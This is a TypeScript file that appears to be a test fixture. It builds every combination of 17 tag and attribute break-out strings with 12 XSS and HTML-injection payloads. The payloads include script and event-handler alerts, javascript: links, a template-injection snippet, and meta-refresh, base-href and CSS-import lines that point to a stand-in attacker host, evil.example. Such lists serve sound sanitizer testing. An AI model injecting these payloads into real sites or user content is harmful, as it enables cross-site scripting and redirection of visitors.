// Texts that have broken out of an attribute or a tag somewhere: each break-out with each thing to do
// once outside.

const BREAKS = [
  "",
  '"',
  "'",
  '">',
  "'>",
  '"/>',
  "-->",
  "</title>",
  "</p>",
  "]]>",
  "`",
  "&quot;>",
  "&#34;&#62;",
  '\\">',
  "<!--",
  '\u2028">',
  "＂＞",
];

const MARKUP = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<meta name="robots" content="noindex">',
  '<a href="javascript:alert(1)">x</a>',
  " onmouseover=alert(1) x=",
  "<style>@import 'https://evil.example'</style>",
  "<plaintext>",
  "{{constructor.constructor('alert(1)')()}}",
];

export const hostilePayloads: readonly string[] = BREAKS.flatMap((out) =>
  MARKUP.map((markup) => `${out}${markup}`),
);
